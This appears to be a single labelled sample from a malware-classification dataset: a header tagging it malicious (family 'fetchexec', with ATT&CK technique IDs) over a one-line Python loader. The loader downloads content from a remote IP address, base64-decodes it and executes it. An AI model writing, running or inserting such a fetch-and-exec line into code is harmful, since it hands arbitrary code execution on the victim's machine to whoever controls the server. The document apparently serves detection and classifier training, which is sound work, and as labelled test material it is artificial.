# label: malicious family=fetchexec techniques=T1059.006,T1105,T1140,T1620 lines=2
import base64,urllib.request;exec(base64.b64decode(urllib.request.urlopen('http://203.0.113.5/c').read()))
